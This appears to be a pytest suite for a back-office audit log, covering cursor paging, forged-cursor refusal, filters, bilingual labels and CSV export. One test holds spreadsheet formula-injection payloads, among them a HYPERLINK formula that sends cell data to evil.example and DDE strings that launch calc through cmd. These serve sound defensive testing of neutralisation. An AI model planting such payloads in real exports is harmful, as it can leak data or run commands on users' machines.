"""Back-office lists (app/listing.py) attacked through the audit log: keyset pages that
neither repeat nor skip a row while others are written, cursors nobody can forge, filters
that combine, and a CSV of the whole filter that a spreadsheet cannot be tricked into
running."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from app.audit import AuditRecord, record_audit
from app.audit_actions import ACTION_LABELS
from app.database import db
from app.listing import Listing, neutralise
from tests.app.test_auth_support import log_in, make_office, make_user

ROOT = Path(__file__).resolve().parents[2]


def _admin(app, client):
    uid = make_user(app, email="admin@example.iq", name="Admin", roles=("admin",))
    log_in(client, "admin@example.iq")
    return uid


def _write(app, action, *, actor_id=None, object_type="parcel", object_id=None, at=None,
           details=None):
    with app.app_context():
        rec = record_audit(action, object_type=object_type, object_id=object_id,
                           actor_id=actor_id, details=details)
        if at is not None:
            rec.occurred_at = at
        db.commit()
        return rec.id


def _object_ids(html: str) -> list[str]:
    body = html.split("<tbody>")[1].split("</tbody>")[0]
    return re.findall(r"<bdi>#([^<]+)</bdi>", body)


def _next(html: str) -> str | None:
    m = re.search(r'rel="next" href="([^"]+)"', html)
    return m.group(1).replace("&amp;", "&") if m else None


def _csv(resp) -> list[list[str]]:
    raw = resp.get_data()
    assert raw.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_paging_shows_every_row_once_in_order_while_rows_are_written(app, client):
    admin_id = _admin(app, client)
    base = datetime(2026, 3, 1, 9, tzinfo=UTC)
    # 11 rows for pages of 5 (N+1 for two pages), some with the same second, so the
    # order rests on the id to break ties.
    for i in range(11):
        _write(app, "test.paged", actor_id=admin_id, object_id=f"p{i:02d}",
               at=base + timedelta(minutes=i // 2))
    seen: list[str] = []
    url = "/backoffice/admin/audit?action=test.paged&per_page=5"
    pages = 0
    while url:
        resp = client.get(url)
        assert resp.status_code == 200
        html = resp.get_data(as_text=True)
        seen += _object_ids(html)
        pages += 1
        # Others keep working between two page loads: newer rows, and one written late
        # with an old time (a slow transaction), must not shift what the next page shows.
        _write(app, "test.paged", actor_id=admin_id, object_id=f"new{pages}")
        url = _next(html)
    originals = [s for s in seen if s.startswith("p")]
    assert originals == [f"p{i:02d}" for i in reversed(range(11))]
    assert len(seen) == len(set(seen)), "a row was shown twice"
    assert pages == 3
    # The first-page link drops the cursor but keeps the filters.
    html = client.get(_next(client.get(url or "/backoffice/admin/audit?action=test.paged"
                                       "&per_page=5").get_data(as_text=True))
                      ).get_data(as_text=True)
    first = re.search(r'rel="first" href="([^"]+)"', html).group(1).replace("&amp;", "&")
    assert "after=" not in first and "action=test.paged" in first and "per_page=5" in first


@pytest.mark.parametrize("query", [
    "after=garbage",
    "after=" + "A" * 600,
    "after=WzEsMl0.tampered",
    "per_page=0", "per_page=100000", "per_page=abc",
    "since=2026-13-01", "until=yesterday", "since=99999999999", "until=9999-12-31",
    "since=0001-01-01", "since=2026-02-30",
    "action=" + "x" * 300,
    "office=abc", "office=99999999999999999999",
    "object_type=<script>",
    "actor=" + "a" * 500,
])
def test_malformed_list_queries_are_a_clear_400(app, client, query):
    _admin(app, client)
    resp = client.get(f"/backoffice/admin/audit?{query}")
    assert resp.status_code == 400, query
    assert "<script>" not in resp.get_data(as_text=True)
    if not query.startswith(("after=", "per_page=")):  # the export reads neither
        csv_resp = client.get(f"/backoffice/admin/audit.csv?{query}")
        assert csv_resp.status_code == 400, query


def test_a_cursor_edited_or_taken_from_another_list_is_refused(app, client):
    admin_id = _admin(app, client)
    for i in range(3):
        _write(app, "test.cursor", actor_id=admin_id, object_id=i)
    html = client.get("/backoffice/admin/audit?per_page=1").get_data(as_text=True)
    cursor = re.search(r"after=([^\"&]+)", _next(html)).group(1)
    assert client.get(f"/backoffice/admin/audit?per_page=1&after={cursor}").status_code == 200
    # Change the key the cursor carries but keep the signature: refused.
    payload, sig = cursor.rsplit(".", 1)
    forged = payload[:-2] + ("AA" if payload[-2:] != "AA" else "BB") + "." + sig
    resp = client.get(f"/backoffice/admin/audit?after={forged}")
    assert resp.status_code == 400
    assert "الصفحة الأولى" in resp.get_data(as_text=True)
    # A cursor signed for another list (another salt) is no key here.
    with app.test_request_context():
        other = Listing("notifications", order=(AuditRecord.occurred_at, AuditRecord.id))
        alien = other.cursor_for(db.scalars(select(AuditRecord)).first())
    assert client.get(f"/backoffice/admin/audit?after={alien}").status_code == 400


def test_audit_filters_by_person_action_object_office_and_time_and_combine(app, client):
    _admin(app, client)
    bgd = make_office(app, "BGD-01")
    bsr = make_office(app, "BSR-01", governorate="IQ-BA")
    ali = make_user(app, email="ali@example.iq", name="علي حسن", roles=("clerk",),
                    office="BGD-01")
    zaid = make_user(app, email="zaid@example.iq", name="زيد كريم", roles=("clerk",),
                     office="BSR-01")
    day = datetime(2026, 2, 10, 12, tzinfo=UTC)
    _write(app, "parcel.accepted", actor_id=ali, object_id="A1", at=day)
    _write(app, "parcel.accepted", actor_id=ali, object_id="A2", at=day + timedelta(days=2))
    _write(app, "parcel.handover", actor_id=ali, object_id="A1", at=day)
    _write(app, "parcel.accepted", actor_id=zaid, object_id="Z1", at=day)
    _write(app, "post_card.issued", actor_id=zaid, object_type="post_card", object_id="A1",
           at=day)

    def ids(query):
        resp = client.get("/backoffice/admin/audit?" + query)
        assert resp.status_code == 200, query
        return sorted(_object_ids(resp.get_data(as_text=True)))

    assert ids("actor=علي") == ["A1", "A1", "A2"]
    assert ids(f"actor=%23{zaid}") == ["A1", "Z1"]
    assert ids("actor=zaid@example") == ["A1", "Z1"]
    assert ids("action=parcel.accepted") == ["A1", "A2", "Z1"]
    assert ids(f"office={bsr}") == ["A1", "Z1"]
    assert ids(f"office={bgd}&action=parcel.accepted") == ["A1", "A2"]
    assert ids("object_type=parcel&object_id=A1") == ["A1", "A1"]
    assert ids("object_type=post_card&object_id=A1") == ["A1"]
    assert ids("object_id=A1") == ["A1", "A1", "A1"]
    assert ids("object_type=parcel&object_id=A1&action=parcel.handover") == ["A1"]
    # Days are Baghdad days, both ends kept.
    assert ids("action=parcel.accepted&since=2026-02-11") == ["A2"]
    assert ids("action=parcel.accepted&until=2026-02-10") == ["A1", "Z1"]
    assert ids("since=2026-02-10&until=2026-02-10&actor=علي") == ["A1", "A1"]
    assert ids("since=٢٠٢٦-٠٢-١٢&actor=علي") == ["A2"]
    assert ids("since=2026-02-13&actor=علي") == []
    # Nobody matched: an empty list, not every record.
    assert ids("actor=nobody-at-all") == []


def test_audit_shows_readable_names_in_arabic_and_english_and_unknown_codes_raw(app, client):
    admin_id = _admin(app, client)
    _write(app, "parcel.accepted", actor_id=admin_id, object_id="X1")
    _write(app, "test.never_named", actor_id=admin_id, object_id="X2")
    ar = client.get("/backoffice/admin/audit").get_data(as_text=True)
    assert "قبول الطرد في الشباك" in ar and "طرد" in ar
    assert "Parcel accepted at the counter" not in ar
    assert "test.never_named" in ar, "an unknown code is shown as it is"
    with client.session_transaction() as sess:
        sess["lang"] = "en"
    en = client.get("/backoffice/admin/audit").get_data(as_text=True)
    assert "Parcel accepted at the counter" in en and "قبول الطرد" not in en
    assert "test.never_named" in en
    rows = _csv(client.get("/backoffice/admin/audit.csv"))
    assert rows[0][4] == "Action" and "Parcel accepted at the counter" in {r[4] for r in rows}


def test_every_audit_code_in_the_code_base_has_a_label_in_both_languages(app):
    out = subprocess.run(
        ["grep", "-rhoE", r"(record_audit\(|audit_row\(|action=)\s*\"[a-z_]+\.[a-z_]+\"",
         "app", "payments", "tracking", "shop"], cwd=ROOT, capture_output=True, text=True)
    codes = set(re.findall(r"\"([a-z_]+\.[a-z_]+)\"", out.stdout))
    assert "parcel.accepted" in codes and "post_card.frozen" in codes
    missing = codes - set(ACTION_LABELS)
    assert not missing, f"audit actions without a readable name: {sorted(missing)}"
    from flask_babel import force_locale
    with app.test_request_context():
        for code, label in ACTION_LABELS.items():
            with force_locale("ar"):
                arabic = str(label)
            with force_locale("en"):
                english = str(label)
            assert arabic != english, f"no Arabic for {code}: {english}"
            assert re.search("[\u0600-\u06ff]", arabic), code


def test_audit_csv_has_every_filtered_row_readable_names_and_before_after(app, client):
    admin_id = _admin(app, client)
    for i in range(120):
        _write(app, "auth.user_update", actor_id=admin_id, object_type="user", object_id=i,
               details={"before": {"name": "قديم"}, "after": {"name": f"جديد {i}"}})
    _write(app, "test.elsewhere", actor_id=admin_id, object_id="other")
    page = client.get("/backoffice/admin/audit?action=auth.user_update")
    assert "audit.csv?action=auth.user_update" in page.get_data(as_text=True)
    resp = client.get("/backoffice/admin/audit.csv?action=auth.user_update")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = _csv(resp)
    header, body = rows[0], rows[1:]
    assert len(body) == 120, "the CSV holds every row of the filter, not one page"
    assert header[4] == "الإجراء" and header[9] == "قبل" and header[10] == "بعد"
    assert [r[7] for r in body] == [str(i) for i in reversed(range(120))]
    assert all("جديد" in r[10] and "قديم" in r[9] for r in body)
    assert all(r[5] == "auth.user_update" for r in body)
    assert all(r[4] == "تغيير بيانات شخص" for r in body), "readable action name"


@pytest.mark.parametrize("evil", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1",
])
def test_csv_cells_that_look_like_formulas_are_neutralised(app, client, evil):
    admin_id = _admin(app, client)
    _write(app, "auth.user_update", actor_id=admin_id, object_type="user", object_id=evil,
           details={"after": {"name": evil}})
    with app.app_context():
        from app.auth.models import User
        db.get(User, admin_id).full_name = evil
        db.commit()
    rows = _csv(client.get("/backoffice/admin/audit.csv?action=auth.user_update"))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert ("'" + evil) in rows[1], "the text itself is kept, marked as text"


def test_neutralise_leaves_numbers_and_plain_text_alone():
    assert neutralise(-5) == "-5" and neutralise(12) == "12"
    assert neutralise("بغداد") == "بغداد" and neutralise(None) == ""
    assert neutralise("-5") == "'-5" and neutralise("=1") == "'=1"
    assert neutralise("a=1") == "a=1"


def test_arabic_survives_in_the_csv(app, client):
    admin_id = _admin(app, client)
    with app.app_context():
        from app.auth.models import User
        db.get(User, admin_id).full_name = "مريم عبد الحسين"
        db.commit()
    _write(app, "parcel.accepted", actor_id=admin_id, object_id="طرد-١")
    rows = _csv(client.get("/backoffice/admin/audit.csv"))
    flat = "\n".join(",".join(r) for r in rows)
    assert "مريم عبد الحسين" in flat and "طرد-١" in flat
    assert "قبول الطرد في الشباك" in flat


def test_clerk_cannot_export_the_audit_log(app, client):
    make_office(app)
    make_user(app, email="clerk@example.iq", roles=("clerk",), office="BGD-01")
    log_in(client, "clerk@example.iq")
    assert client.get("/backoffice/admin/audit.csv").status_code == 403
